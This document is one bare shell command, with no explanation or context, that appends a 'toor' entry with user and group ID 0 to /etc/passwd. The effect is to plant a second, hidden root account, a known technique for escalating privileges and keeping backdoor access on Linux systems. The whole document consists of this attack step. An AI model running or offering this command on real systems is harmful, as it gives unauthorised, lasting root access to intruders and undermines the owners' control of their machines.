echo 'toor:x:0:0::/root:/bin/bash' | tee -a /etc/passwd
